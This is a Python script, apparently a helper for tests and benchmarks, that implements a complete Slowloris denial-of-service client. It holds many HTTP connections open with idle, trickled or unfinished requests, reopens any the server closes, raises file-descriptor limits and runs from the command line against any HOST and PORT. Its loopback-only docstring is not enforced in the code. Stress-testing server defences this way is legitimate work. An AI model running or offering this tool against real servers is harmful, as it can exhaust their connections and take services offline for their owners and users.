#!/usr/bin/env python3
"""Hostile HTTP clients for tests and benchmarks (stdlib only).

Holds COUNT connections to HOST:PORT from SOURCE (a local address such as
127.0.0.2, so that an allowlist can tell attacker from scraper), in one of
three modes, and reopens every connection the server closes, as an attacker
would:
  idle     connect and send nothing
  trickle  send a request line, then one header byte per INTERVAL, never
           finishing the request
  partial  send a request line and one header, then nothing

Used as a library (Slowloris(...).start() / .stop(), .stats()) or as a
command: slowloris.py HOST PORT COUNT MODE SECONDS [SOURCE].
Loopback or test namespaces only: it connects to nothing but HOST.
"""
import errno
import resource
import selectors
import socket
import sys
import threading
import time

REQUEST_LINE = b"GET /metrics HTTP/1.1\r\nHost: attacker\r\n"


def raise_fd_limit(want):
    """Raises the soft RLIMIT_NOFILE towards `want` (bounded by the hard
    limit); returns the resulting soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        soft = want if hard == resource.RLIM_INFINITY else min(want, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return soft


class Slowloris:
    """COUNT hostile connections kept open from a background thread."""

    def __init__(self, host, port, count, mode="trickle", source="127.0.0.1",
                 interval=1.0):
        assert mode in ("idle", "trickle", "partial"), mode
        self.host, self.port, self.count = host, port, count
        self.mode, self.source, self.interval = mode, source, interval
        self.opened = 0     # connections made, reconnections included
        self.refused = 0    # connect() failures
        self.closed_by_server = 0
        self._stop = threading.Event()
        self._thread = None
        raise_fd_limit(count + 256)

    def _connect(self, sel):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.bind((self.source, 0))
            err = s.connect_ex((self.host, self.port))
        except OSError:
            s.close()
            self.refused += 1
            return
        if err not in (0, errno.EINPROGRESS):
            s.close()
            self.refused += 1
            return
        self.opened += 1
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE,
                     {"sent": 0, "next": 0.0})

    def _run(self):
        sel = selectors.DefaultSelector()
        try:
            while not self._stop.is_set():
                while len(sel.get_map()) < self.count and not self._stop.is_set():
                    before = self.refused
                    self._connect(sel)
                    if self.refused != before:
                        break  # the listen queue is full: retry next round
                now = time.monotonic()
                for key, mask in sel.select(timeout=0.05):
                    self._serve(sel, key, mask, now)
                self._trickle(sel, now)
        finally:
            for key in list(sel.get_map().values()):
                key.fileobj.close()
            sel.close()

    def _serve(self, sel, key, mask, now):
        s, st = key.fileobj, key.data
        if mask & selectors.EVENT_READ:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed (or answered and closed) by the server
                self.closed_by_server += 1
                sel.unregister(s)
                s.close()
                return
        if mask & selectors.EVENT_WRITE and st["sent"] == 0:
            # Connected: send the first bytes of the mode, then wait for
            # readability only (a closed connection is reopened).
            first = {"idle": b"", "trickle": REQUEST_LINE,
                     "partial": REQUEST_LINE + b"X-Slow: 1\r\n"}[self.mode]
            try:
                if first:
                    s.send(first)
            except OSError:
                pass
            st["sent"] = len(first) or 1
            st["next"] = now + self.interval
            sel.modify(s, selectors.EVENT_READ, st)

    def _trickle(self, sel, now):
        if self.mode != "trickle":
            return
        for key in list(sel.get_map().values()):
            st = key.data
            if st["sent"] and now >= st["next"]:
                try:
                    key.fileobj.send(b"X")
                except OSError:
                    pass
                st["next"] = now + self.interval

    def start(self):
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def wait_open(self, timeout=30):
        """Waits until COUNT connections were opened at least once."""
        end = time.monotonic() + timeout
        while self.opened < self.count and time.monotonic() < end:
            time.sleep(0.05)
        return self.opened >= self.count

    def stop(self):
        self._stop.set()
        if self._thread:
            self._thread.join(10)

    def stats(self):
        return {"opened": self.opened, "refused": self.refused,
                "closed_by_server": self.closed_by_server}


def main(argv):
    if len(argv) not in (6, 7):
        print(__doc__, file=sys.stderr)
        return 2
    host, port, count, mode, seconds = argv[1], int(argv[2]), int(argv[3]), argv[4], float(argv[5])
    source = argv[6] if len(argv) == 7 else "127.0.0.1"
    s = Slowloris(host, port, count, mode, source).start()
    try:
        time.sleep(seconds)
    finally:
        s.stop()
    print(s.stats())
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
